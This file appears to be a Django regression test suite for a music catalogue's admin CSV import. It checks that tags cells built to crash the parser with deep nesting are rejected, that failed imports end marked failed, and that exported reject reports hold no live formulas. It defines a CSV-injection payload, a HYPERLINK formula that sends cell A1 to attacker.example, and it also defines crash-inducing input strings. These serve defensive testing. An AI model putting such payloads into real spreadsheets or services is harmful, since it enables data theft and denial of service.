"""The admin's catalogue import: a hostile tags cell is a rejected row, and an import that fails
ends as failed (issue #25, items 4 and 5).

A MuSe tags cell of ``'-' * 10000 + '1'`` or ``'1' + '+1' * 60000`` made ``ast.literal_eval``
raise RecursionError or MemoryError, of which only ValueError and SyntaxError were caught: a 500
in the embedded set-up, and with a real Celery worker a job left "running". A rejected column
whose header was ``=HYPERLINK(...)`` came back in the rejected-rows CSV as a live formula.
"""

import csv
import io
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from catalogue import catalogue_imports
from catalogue.models import Track
from core.csvcells import FORMULA_STARTS
from tests.base import BaseTestCase
from tests.rec_fixtures import grant_curator_permissions

MUSE_HEADER = "track,artist,seeds,number_of_emotion_tags,valence_tags,arousal_tags,dominance_tags,mbid,spotify_id,genre"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
IMPORT = "admin:catalogue_track_import"


def muse_row(title: str, seeds: str) -> str:
    quoted = '"' + seeds.replace('"', '""') + '"'
    return f"{title},Some Artist,{quoted},3,5.1,4.2,5.0,,,rock"


class ImportFailureTests(BaseTestCase):
    def setUp(self):
        super().setUp()
        grant_curator_permissions(self.charlie)
        self.client.force_login(self.charlie)

    def upload(self, text: str, fmt: str = ""):
        with mock.patch("catalogue.tasks.refresh_clustering"), self.captureOnCommitCallbacks(execute=True):
            response = self.client.post(
                reverse(IMPORT),
                {"file": SimpleUploadedFile("mine.csv", text.encode(), content_type="text/csv"), "format": fmt},
            )
        self.assertEqual(response.status_code, 302, response.content[:500])
        page = self.client.get(response["Location"])
        return page

    def rejected(self, page) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.client.get(page.context["job_report_url"]).content.decode())))

    def test_tags_nested_too_deeply_are_rejected_rows(self):
        rows = [
            muse_row("Fine", "['sad', 'mellow']"),
            muse_row("Minus", "-" * 10000 + "1"),
            muse_row("Plus", "1" + "+1" * 60000),
            muse_row("Shallow minus", "-" * 3000 + "1"),
            muse_row("Also fine", "['happy']"),
        ]
        page = self.upload("\n".join([MUSE_HEADER, *rows]) + "\n", fmt="muse_v3")
        self.assertContains(page, 'data-status="done"')
        self.assertContains(page, "3 rejected")
        reasons = [r[1] for r in self.rejected(page)[1:]]
        print(f"\nrejected: {reasons}")
        self.assertEqual(len(reasons), 3)
        self.assertTrue(all("tags cell" in reason for reason in reasons), reasons)
        self.assertEqual(set(Track.objects.values_list("title", flat=True)), {"Fine", "Also fine"})

    def test_an_import_that_fails_unexpectedly_ends_failed(self):
        with mock.patch("catalogue.catalogue_imports.import_tracks", side_effect=RuntimeError("disk on fire")):
            page = self.upload(MUSE_HEADER + "\n" + muse_row("Fine", "['sad']") + "\n", fmt="muse_v3")
        self.assertContains(page, 'data-status="failed"')
        job = catalogue_imports.get_job(page.context["job"]["id"])
        self.assertEqual(job["status"], "failed")
        self.assertIn("failed on the server", job["error"])
        self.assertFalse(Track.objects.exists())

    def test_the_rejected_rows_csv_has_no_live_formula(self):
        # A column of the upload named as a formula, and a control character in that column's cell.
        header = "name,album,artist,id,valence,energy,mood,genre," + '"' + HYPERLINK.replace('"', '""') + '"'
        rows = ["Song 1,LP,Curated Artist,ADMIN00000000000000001,0.8,0.7,Happy,indie,x\x07y"]
        page = self.upload("\n".join([header, *rows]) + "\n", fmt="spotify_moods")
        cells = [cell for row in self.rejected(page) for cell in row]
        print(f"\nrejected-rows CSV cells: {cells}")
        self.assertIn("'" + HYPERLINK + " contains a control character (such as NUL)", cells)
        self.assertFalse([cell for cell in cells if cell.startswith(FORMULA_STARTS)])
